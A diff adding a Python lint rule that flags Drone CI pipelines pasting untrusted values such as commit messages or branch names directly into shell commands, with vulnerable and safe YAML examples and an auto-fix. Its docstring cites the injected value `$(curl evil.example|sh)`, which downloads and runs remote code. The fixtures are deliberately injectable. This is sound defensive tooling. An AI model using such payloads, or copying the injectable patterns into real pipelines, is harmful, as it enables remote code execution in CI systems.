@@ -1,0 +1,127 @@
+"""Text of strangers pasted into commands."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from drone_lint.api import CWE, OWASP, Edit, Example, Finding, Fix, Jsonnet, Pipeline, Rule, Severity, Step, Value, step_events
+from drone_lint_rules.injection._tainted import GUARDED, Paste, pastes, source_name
+
+
+class TemplateInjection(Rule):
+    """Drone pastes text that a stranger wrote into a command.
+
+    `${DRONE_COMMIT_MESSAGE}` and the like are replaced in the file's text, before YAML and the shell see it. Quotes do not help: `echo "${DRONE_COMMIT_MESSAGE}"` with
+    the message `$(curl evil.example|sh)` runs it, and a message with `"` or `'` ends the string. Names of branches and tags are restricted by Git, but
+    `$(){};|&` are allowed in them.
+
+    Let the shell read the variable, in double quotes: `"$DRONE_COMMIT_MESSAGE"` or `"$${DRONE_COMMIT_MESSAGE}"`. Every step has all of them in its environment.
+    """
+
+    name = "template-injection"
+    severity = Severity.ERROR
+    why = "the text becomes part of the command, so quotes do not protect"
+    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))
+    fixable = "safe"
+
+    bad = (
+        """
+        kind: pipeline
+        type: docker
+        name: default
+        steps:
+        - name: notify
+          image: alpine:3.20
+          commands:
+          - echo "${DRONE_COMMIT_MESSAGE}"  # <- template-injection
+          - echo '${DRONE_PULL_REQUEST_TITLE:-none}'  # <- template-injection
+          - git log --author=${CI_COMMIT_AUTHOR_NAME}  # <- template-injection
+          - git checkout ${DRONE_SOURCE_BRANCH//x/y}  # <- template-injection
+          - make VERSION=${OTHER:-${DRONE_TAG}} ${DRONE_BRANCH}  # <- template-injection, template-injection
+        """,
+        Example(
+            """
+            kind: pipeline
+            type: docker
+            name: default
+            steps:
+            - name: notify
+              image: alpine:3.20
+              commands:
+              - |
+                # a line feed ends a comment: ${DRONE_COMMIT_AUTHOR}
+            """,
+            lines=(9,),
+        ),
+        Jsonnet("""
+        local branch = '${DRONE_BRANCH}';
+        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
+          { name: 'a', image: 'alpine:3.20', commands: [
+            'make BRANCH=${DRONE_COMMIT_BRANCH}',  // <- template-injection
+          ] },
+        ] }
+        """),
+    )
+    good = (
+        """
+        kind: pipeline
+        type: docker
+        name: default
+        steps:
+        - name: notify
+          image: alpine:3.20
+          environment: {TAG: "${DRONE_TAG}"}
+          commands:
+          - echo "$DRONE_COMMIT_MESSAGE" "$${DRONE_COMMIT_MESSAGE}" $$DRONE_TAG
+          - echo ${DRONE_COMMIT_SHA:0:8} ${DRONE_BUILD_NUMBER} ${DRONE_REPO_BRANCH} ${DRONE_SEMVER_MAJOR} ${#DRONE_COMMIT_MESSAGE}
+        """,
+    )
+
+    def check_step(self, step: Step, pipeline: Pipeline) -> Iterator[Finding]:
+        for command in step.commands:
+            for paste in pastes(command) if "${" in command.text else ():
+                yield self._finding(step, command, paste)
+
+    def _finding(self, step: Step, command: Value, paste: Paste) -> Finding:
+        expansion = paste.expansion
+        plain = expansion.form == ""
+        shell = f"$${{{expansion.name}}}"
+        severity, guarded = _severity(step, paste)
+        who = "whoever may push tags" if guarded else "a stranger"
+        return self.finding(
+            command.range(expansion.start, expansion.end),
+            f"`{command.text[expansion.start : expansion.end]}` pastes {source_name(expansion.name)} into a command as text, where {who} can put commands",
+            severity=severity,
+            help=f'let the shell read it, in double quotes: `"${expansion.name}"` or `"{shell}"`',
+            fix=_escape(command, paste) if plain else None,
+        )
+
+
+def _severity(step: Step, paste: Paste) -> tuple[Severity, bool]:
+    """How bad it is, and whether only people with write access fill the variable here."""
+    if paste.free:
+        return Severity.ERROR, False
+    guarded = step_events(step) <= GUARDED
+    return (Severity.NOTICE if guarded else Severity.WARNING), guarded
+
+
+def _escape(command: Value, paste: Paste) -> Fix | None:
+    """`$${X}`, safe where the shell then expands it: not between single quotes."""
+    start = paste.expansion.start
+    if _single_quoted(command.text, start):
+        return None
+    return Fix(f"write `$${{{paste.expansion.name}}}`", (Edit(command.range(start, start), "$"),))
+
+
+def _single_quoted(text: str, at: int) -> bool:
+    """Whether the shell sees a character between single quotes; a simple look is enough to decline a fix."""
+    quote = ""
+    index = 0
+    while index < at:
+        char = text[index]
+        if char == "\\" and quote != "'":
+            index += 1
+        elif char in "'\"" and quote in ("", char):
+            quote = "" if quote else char
+        index += 1
+    return quote == "'"
